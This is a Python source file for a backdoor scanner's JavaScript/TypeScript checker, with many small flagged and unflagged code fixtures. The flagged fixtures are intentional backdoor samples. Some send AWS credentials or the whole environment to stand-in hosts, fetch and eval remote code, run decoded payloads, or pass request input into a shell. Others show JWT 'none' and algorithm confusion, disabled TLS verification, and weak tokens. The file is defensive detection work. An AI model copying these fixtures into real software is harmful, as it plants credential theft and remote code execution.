"""JavaScript/TypeScript (incl. TSX): the value-following analysis on tree-sitter (checkers/lang/),
beside the semgrep pattern rules. It sees what a pattern cannot: allow-lists and options built
from constants, spreads and later assignments, aliased imports and requires, computed member
names, decoded strings, helper functions' returns and values flowing through variables and
callbacks from a secret, a credential file, decoded bytes or request input to a sink. Constants
and options objects imported from another file of the scanned tree (`import { ALGS } from
'./config'`, `require('./config').ALGS`) are read there: relative imports only, one level deep,
inside the scan root, size-capped, never executed (checkers/lang/js_imports.py)."""
from __future__ import annotations

import re

from backdoor_lint.checkers.examples import Invalid, Valid
from backdoor_lint.checkers.text import TextChecker

from backdoor_lint.findings import Finding

_H = "const https = require('https');\n"
_JWT = "const jwt = require('jsonwebtoken');\n"


class JavaScriptValueChecker(TextChecker):
    CODES = ("BDL101", "BDL102", "BDL103", "BDL104", "BDL203", "BDL204", "BDL205", "BDL208", "BDL209", "BDL210", "BDL301", "BDL302",
             "BDL303", "BDL402", "BDL501", "BDL502", "BDL503", "BDL504", "BDL505", "BDL602")
    LANGUAGES = frozenset({"javascript", "typescript"})
    TRIGGER = re.compile(rb"require|import|jwt|jose|eval|Function|vm\.|rejectUnauthorized|strictSSL|NODE_TLS|"
                         rb"Math\.random|req\.|ctx\.|serializ|yaml|process|Reflect|getOwnPropertyDescriptor|\[|createCipher|createHmac|secret|TLSv1|SSLv")
    INVALID = [
        # BDL101: the list is a constant, a spread of constants, a helper's return, a later assignment
        Invalid(_JWT + "const ALGS = ['RS256', 'HS256'];\nfunction check(t, key) {\n"
                "  return jwt.verify(t, key, { algorithms: ALGS });\n}\n", "BDL101", 4, path="auth.js"),
        Invalid(_JWT + "const BASE = { algorithms: ['RS256'] };\n"
                "const OPTS = { ...BASE, algorithms: [...BASE.algorithms, 'HS' + '256'] };\n"
                "module.exports = (t, k) => jwt.verify(t, k, OPTS);\n", "BDL101", 4, path="auth.js"),
        Invalid("import { jwtVerify as check } from 'jose';\nfunction allowed() { return ['ES256', `HS${256}`]; }\n"
                "export async function user(t: string, key: KeyLike) {\n"
                "  return (await check(t, key, { algorithms: allowed() })).payload;\n}\n", "BDL101", 4,
                path="auth.ts"),
        Invalid(_JWT + "const verify = (t, k) => jwt['ver' + 'ify'](t, k, { algorithms: 'RS256,HS256'.split(',') });\n",
                "BDL101", 2, path="auth.js"),
        Invalid("const { expressjwt } = require('express-jwt');\nconst opts = { secret: publicKey };\n"
                "opts.algorithms = ['RS256', 'HS256'];\napp.use(expressjwt(opts));\n", "BDL101", 4, path="app.js"),
        Invalid("const JwtStrategy = require('passport-jwt').Strategy;\n"
                "const opts = Object.assign({}, { secretOrKey: pem }, { algorithms: ['PS256', 'HS512'] });\n"
                "passport.use(new JwtStrategy(opts, (p, done) => done(null, p)));\n", "BDL101", 3, path="auth.js"),
        # BDL102: 'none' decoded or signed with
        Invalid(_JWT + "const ALG = atob('bm9uZQ==');\njwt.verify(token, key, { algorithms: [ALG] });\n", "BDL102", 3,
                path="auth.js"),
        Invalid(_JWT + "const o = { algorithm: 'no' + 'ne' };\nconst t = jwt.sign({ admin: true }, '', o);\n",
                "BDL102", 3, path="token.js"),
        # BDL103: jwt-simple's noVerify flag through a constant
        Invalid("const jwt = require('jwt-simple');\nconst TRUST_ME = true;\n"
                "const claims = jwt.decode(token, secret, TRUST_ME);\n", "BDL103", 3, path="auth.js"),
        # BDL104: the algorithm read from the unverified header
        Invalid(_JWT + "function check(token, key) {\n  const d = jwt.decode(token, { complete: true });\n"
                "  return jwt.verify(token, key, { algorithms: [d.header.alg] });\n}\n", "BDL104", 4, path="auth.js"),
        # BDL203/204/205/210/303: by value, through constants and options objects
        Invalid("const crypto = require('crypto');\nconst ALG = ['aes', 128, 'ecb'].join('-');\n"
                "const c = crypto.createCipheriv(ALG, key, null);\n", "BDL204", 3, path="box.js"),
        Invalid("import { createCipheriv } from 'crypto';\nconst IV = Buffer.alloc(16);\n"
                "export const seal = (k: Buffer) => createCipheriv('aes-256-cbc', k, IV);\n", "BDL205", 3,
                path="box.ts"),
        Invalid("const crypto = require('crypto');\nconst c = crypto.createCipheriv('des-' + 'ede3-cbc', k, iv);\n",
                "BDL203", 2, path="box.js"),
        Invalid(_JWT + "const SECRET = 'kX9' + 'f2-prod-signing';\nconst opts = { expiresIn: '1h' };\n"
                "module.exports = (user) => jwt.sign({ sub: user.id }, SECRET, opts);\n", "BDL210", 4,
                path="token.js"),
        Invalid("const { Strategy } = require('passport-jwt');\nconst opts = { secretOrKey: atob('czNjcjN0LXByb2Q=') };\n"
                "passport.use(new Strategy(opts, verify));\n", "BDL210", 3, path="auth.js"),
        Invalid(_H + "const LEGACY = { minVersion: 'TLS' + 'v1' };\nhttps.request({ ...LEGACY, host: 'h' });\n",
                "BDL303", 2, path="client.js"),
        # BDL301/302: verification off through constants, computed keys, assignments, Object.assign
        Invalid(_H + "const VERIFY = !1;\nconst base = { hostname: 'api.example.com', rejectUnauthorized: VERIFY };\n"
                "https.request({ ...base, path: '/' });\n", "BDL301", 3, path="client.js"),
        Invalid(_H + "const agentOptions = {};\nagentOptions['reject' + 'Unauthorized'] = false;\n"
                "const agent = new https.Agent(agentOptions);\n", "BDL301", 3, path="client.js"),
        Invalid("process.env['NODE_TLS_' + 'REJECT_UNAUTHORIZED'] = 0;\n", "BDL302", 1, path="setup.js"),
        Invalid("Object.assign(process.env, { NODE_TLS_REJECT_UNAUTHORIZED: String(0) === '0' ? '0' : '1' });\n",
                "BDL302", 1, path="setup.js"),
        # BDL402: credential files (callback form), secrets through helpers, the environment on a socket
        Invalid("const fs = require('fs'), os = require('os'), path = require('path');\n"
                "fs.readFile(path.join(os.homedir(), '.aws', 'credentials'), 'utf8', (err, data) => {\n"
                "  fetch('https://collect.example/u', { method: 'POST', body: data });\n});\n", "BDL402", 3,
                path="postinstall.js"),
        Invalid("const axios = require('axios');\nfunction key() { return process.env.AWS_SECRET_ACCESS_KEY; }\n"
                "axios.post('https://hooks.example/c', { k: key() });\n", "BDL402", 3, path="telemetry.js"),
        Invalid("const http = require('http');\nconst req = http.request({ host: 'c.example', method: 'POST' });\n"
                "const payload = JSON.stringify({ ...process.env });\nreq.write(payload);\nreq.end();\n", "BDL402", 4,
                path="index.js"),
        # BDL501/502: decoded or fetched code run, through variables and a stored Function
        Invalid("const P = 'Y29uc29sZS5sb2coMSk=';\nconst code = Buffer.from(P, 'base64').toString();\n"
                "const run = new Function(code);\nrun();\n", "BDL501", 4, path="index.js"),
        Invalid("const vm = require('vm');\nconst s = [99, 111, 110, 115, 111, 108, 101].map(String.fromCharCode);\n"
                "vm.runInNewContext(String.fromCharCode(...s));\n", "BDL501", 3, path="index.js"),
        Invalid("fetch('https://cdn.example/p.js').then(r => r.text()).then(code => eval(code));\n", "BDL502", 1,
                path="loader.js"),
        # BDL503: dangerous functions behind computed names
        Invalid("const cp = require('child_process');\ncp['ex' + 'ec']('id');\n", "BDL503", 2, path="index.js"),
        Invalid("const m = require('child_' + 'process');\nReflect.get(m, 'spawn').call(m, 'sh', ['-c', 'id']);\n",
                "BDL503", 2, path="index.js"),
        Invalid("const name = Buffer.from('ZXZhbA==', 'base64').toString();\nglobalThis[name]('1 + 1');\n", "BDL503",
                2, path="index.js"),
        # BDL505: a shell command line built from variable data, through a name
        Invalid("const cp = require('child_process');\nfunction archive(dir) {\n  const cmd = 'tar czf out.tgz ' + dir;\n"
                "  return cp.execSync(cmd);\n}\n", "BDL505", 4, path="backup.js"),
        # BDL505: request input into a shell
        Invalid("const { exec } = require('child_process');\napp.get('/ping', (req, res) => {\n"
                "  const target = req.query.host;\n  exec(`ping -c 1 ${target}`, (e, out) => res.send(out));\n});\n",
                "BDL505", 4, path="server.js"),
        # BDL209: a MAC from a helper, through renamed names and an aliased import, compared with the request's
        Invalid("const crypto = require('crypto');\nfunction mac(body) {\n"
                "  return crypto.createHmac('sha256', process.env.HOOK_SECRET).update(body).digest('hex');\n}\n"
                "app.post('/hook', (req, res) => {\n  if (mac(req.rawBody) !== req.headers['x-hub-signature']) "
                "return res.sendStatus(401);\n});\n", "BDL209", 6, path="hooks.js"),
        Invalid("const { createHmac: h } = require('crypto');\nfunction verify(payload, signature) {\n"
                "  const expected = h('sha256', KEY).update(payload).digest('base64');\n  const given = signature;\n"
                "  return given == expected;\n}\n", "BDL209", 5, path="verify.js"),
        Invalid("app.use((req, res, next) => {\n  const token = req.get('x-admin-token');\n"
                "  if (token === process.env['ADMIN_' + 'TOKEN']) return next();\n  res.sendStatus(403);\n});\n",
                "BDL209", 3, path="admin.js"),
        Invalid("const cfg = { apiKey: process.env.API_KEY };\nexport function guard(req: Request) {\n"
                "  return req.headers.get('x-api-key') != cfg.apiKey;\n}\n", "BDL209", 3, path="guard.ts"),
        Invalid("import { createHmac } from 'crypto';\nexport const ok = (body: string, sig: string) =>\n"
                "  Buffer.from(sig, 'hex').equals(createHmac('sha256', key).update(body).digest());\n", "BDL209", 3,
                path="sig.ts"),
        # BDL208: Math.random through an alias, a callback, a local, a cookie and an object key
        Invalid("const rnd = Math.random;\nfunction makeResetToken() {\n  return rnd().toString(36).slice(2);\n}\n",
                "BDL208", 3, path="tokens.js"),
        Invalid("function issue(user) {\n  user.apiKey = [...Array(32)].map(() => "
                "Math.floor(Math.random() * 16).toString(16)).join('');\n}\n", "BDL208", 2, path="keys.js"),
        Invalid("app.post('/login', (req, res) => {\n  const id = Date.now() + '-' + Math.random();\n"
                "  res.cookie('sid', id, { httpOnly: true });\n});\n", "BDL208", 2, path="login.js"),
        Invalid("export function invite(email: string) {\n  const n = Math.random().toString(36).substring(2);\n"
                "  return db.invites.insert({ email, inviteCode: n });\n}\n", "BDL208", 2, path="invite.ts"),
        # BDL504: node-serialize through destructuring and a computed name, js-yaml's full schema
        Invalid("const { unserialize } = require('node-serialize');\napp.post('/p', (req, res) => {\n"
                "  const o = unserialize(Buffer.from(req.cookies.profile, 'base64').toString());\n  res.json(o);\n});\n",
                "BDL504", 3, path="profile.js"),
        Invalid("const ns = require('node-' + 'serialize');\nmodule.exports = (data) => ns['unserial' + 'ize'](data);\n",
                "BDL504", 2, path="codec.js"),
        Invalid("const yaml = require('js-yaml');\nconst opts = { schema: yaml.DEFAULT_FULL_SCHEMA };\n"
                "module.exports = (text) => yaml.load(text, opts);\n", "BDL504", 3, path="rules.js"),
        # BDL602: a client header through a name or helper as identity, a debug flag before auth
        Invalid("const HEADER = 'x-forwarded-' + 'for';\nconst clientIp = (req) => req.get(HEADER);\n"
                "app.use((req, res, next) => {\n  if (clientIp(req) === '127.0.0.1') return next();\n"
                "  requireLogin(req, res, next);\n});\n", "BDL602", 4, path="app.js"),
        Invalid("app.use(async (ctx, next) => {\n  const who = ctx.get('x-user');\n"
                "  if (who) ctx.state.user = { id: who };\n  await next();\n});\n", "BDL602", 3, path="gateway.ts"),
        Invalid("function requireAuth(req, res, next) {\n  if (process.env.DEBUG_AUTH) return next();\n"
                "  verifySession(req, res, next);\n}\n", "BDL602", 2, path="auth.js"),
    ]
    VALID = [
        Valid(_JWT + "const ALGS = ['RS256', 'RS512'];\njwt.verify(token, publicKey, { algorithms: ALGS });\n",
              "BDL101", path="auth.js"),
        Valid(_JWT + "const SUPPORTED = ['RS256', 'HS256']; // documentation table\n"
              "jwt.verify(token, secret, { algorithms: ['HS256'] });\n", "BDL101", path="auth.js"),
        Valid("import { jwtVerify } from 'jose';\nexport const check = (t: string, k: KeyLike, alg: string) =>\n"
              "  jwtVerify(t, k, { algorithms: [alg] });\n", "BDL101", path="auth.ts"),
        Valid(_JWT + "const label = 'none';\nconsole.log(label);\njwt.verify(t, k, { algorithms: ['ES256'] });\n",
              "BDL102", path="auth.js"),
        Valid("const jwt = require('jwt-simple');\nconst claims = jwt.decode(token, secret, false, 'HS256');\n",
              "BDL103", path="auth.js"),
        Valid(_JWT + "function check(token, key) {\n  return jwt.verify(token, key, { algorithms: [config.alg] });\n}\n",
              "BDL104", path="auth.js"),
        Valid("const crypto = require('crypto');\nconst ALG = ['aes', 256, 'gcm'].join('-');\n"
              "const c = crypto.createCipheriv(ALG, key, crypto.randomBytes(12));\n", "BDL204", path="box.js"),
        Valid("const crypto = require('crypto');\nconst c = crypto.createCipheriv('aes-256-gcm', key, iv);\n",
              "BDL205", path="box.js"),
        Valid("const crypto = require('crypto');\nconst h = crypto.createHash('sha256');\n", "BDL203", path="box.js"),
        Valid(_JWT + "const SECRET = process.env.JWT_SECRET;\nmodule.exports = (u) => jwt.sign({ sub: u.id }, SECRET);\n",
              "BDL210", path="token.js"),
        Valid(_JWT + "const t = jwt.sign({ sub: 1 }, 'changeme');\n", "BDL210", path="token.js"),
        Valid(_JWT + "const t = jwt.sign({ sub: 1 }, 'kX9f2-test-signing');\n", "BDL210", path="test/token.test.js"),
        Valid(_H + "https.request({ host: 'h', minVersion: 'TLSv1.2' });\n", "BDL303", path="client.js"),
        Valid(_H + "const STRICT = true;\nhttps.request({ hostname: 'api.example.com', rejectUnauthorized: STRICT });\n",
              "BDL301", path="client.js"),
        Valid(_H + "const opts = { rejectUnauthorized: process.env.NODE_ENV === 'production' };\n", "BDL301",
              path="client.js"),
        Valid("if (process.env.NODE_TLS_REJECT_UNAUTHORIZED === '0') {\n"
              "  throw new Error('TLS verification must stay on');\n}\n", "BDL302", path="setup.js"),
        Valid("fetch('https://api.example.com/v1', { headers: { Authorization: `Bearer ${process.env.API_TOKEN}` } });\n",
              "BDL402", path="client.js"),
        Valid("const axios = require('axios');\naxios.post('https://api.example.com/ping', "
              "{ region: process.env.AWS_REGION });\n", "BDL402", path="client.js"),
        Valid("const fs = require('fs');\nconst body = fs.readFileSync('./package.json', 'utf8');\n"
              "fetch('https://registry.example/publish', { method: 'PUT', body });\n", "BDL402", path="publish.js"),
        Valid("const fn = new Function('a', 'b', 'return a + b');\nconst img = Buffer.from(data, 'base64');\n"
              "fs.writeFileSync('out.png', img);\n", "BDL501", path="index.js"),
        Valid("fetch('/api/items').then(r => r.json()).then(items => render(items));\n", "BDL502", path="app.js"),
        Valid("const cp = require('child_process');\ncp.execFile('git', ['status']);\n"
              "const handlers = { a: () => 1 };\nhandlers[name]();\n", "BDL503", path="index.js"),
        Valid("const cp = require('child_process');\nconst CMD = 'git ' + 'status';\ncp.execSync(CMD);\n", "BDL505",
              path="status.js"),
        Valid("const { execFile } = require('child_process');\napp.get('/ping', (req, res) => {\n"
              "  execFile('ping', ['-c', '1', String(req.query.host)], (e, out) => res.send(out));\n});\n",
              "BDL505", path="server.js"),
        Valid("const crypto = require('crypto');\nfunction ok(sig, body) {\n"
              "  const a = Buffer.from(sig), b = Buffer.from(crypto.createHmac('sha256', k).update(body).digest('hex'));\n"
              "  return a.length === b.length && crypto.timingSafeEqual(a, b);\n}\n", "BDL209", path="hooks.js"),
        Valid("const crypto = require('crypto');\napp.get('/f', (req, res) => {\n"
              "  const etag = crypto.createHash('sha1').update(body).digest('hex');\n"
              "  if (req.headers['if-none-match'] === etag) return res.status(304).end();\n});\n", "BDL209",
              path="files.js"),
        Valid("app.post('/signup', (req, res) => {\n  if (req.body.password !== req.body.confirmPassword) "
              "return res.sendStatus(400);\n  if (req.headers['x-signature'] === undefined) return res.sendStatus(400);\n"
              "  if (user.id === req.params.id) return res.json(user);\n});\n", "BDL209", path="signup.js"),
        Valid("test('signs', () => {\n  expect(sign(body) === req.headers['x-signature']).toBe(true);\n});\n",
              "BDL209", path="test/hooks.test.js"),
        Valid("function shuffle(a) {\n  for (let i = a.length - 1; i > 0; i--) {\n"
              "    const j = Math.floor(Math.random() * (i + 1));\n    [a[i], a[j]] = [a[j], a[i]];\n  }\n}\n"
              "function retryDelay(n) {\n  return 2 ** n * 100 + Math.random() * 100;\n}\n"
              "const sampled = Math.random() < 0.01;\n", "BDL208", path="util.js"),
        Valid("const crypto = require('crypto');\nfunction makeResetToken() {\n"
              "  return crypto.randomBytes(32).toString('hex');\n}\nconst key = `row-${Math.random()}`;\n", "BDL208",
              path="tokens.js"),
        Valid("const yaml = require('js-yaml');\nconst { unserialize } = require('node-serialize');\n"
              "app.post('/rules', (req, res) => res.json(yaml.load(req.body.rules)));\n"
              "const defaults = unserialize('{\"theme\":\"dark\"}');\nconst o = JSON.parse(req.body.data);\n",
              "BDL504", path="rules.js"),
        Valid("app.use((req, res, next) => {\n  if (process.env.DEBUG) console.log(req.method, req.get('x-forwarded-for'));\n"
              "  next();\n});\n"
              "app.get('/', (req, res) => {\n  if (req.get('x-forwarded-proto') === 'http') return res.redirect('https://a.example');\n"
              "  res.send('ok');\n});\n", "BDL602", path="app.js"),
    ]

    def check(self, text: str, display: str, language: str) -> list[Finding]:
        from backdoor_lint.checkers.lang.checker import run
        from backdoor_lint.checkers.lang.javascript import JsFile
        from backdoor_lint.checkers.lang.js_rules import analyse

        return run(text, display, language, lambda source: analyse(JsFile(source, self.path, self.root), display))
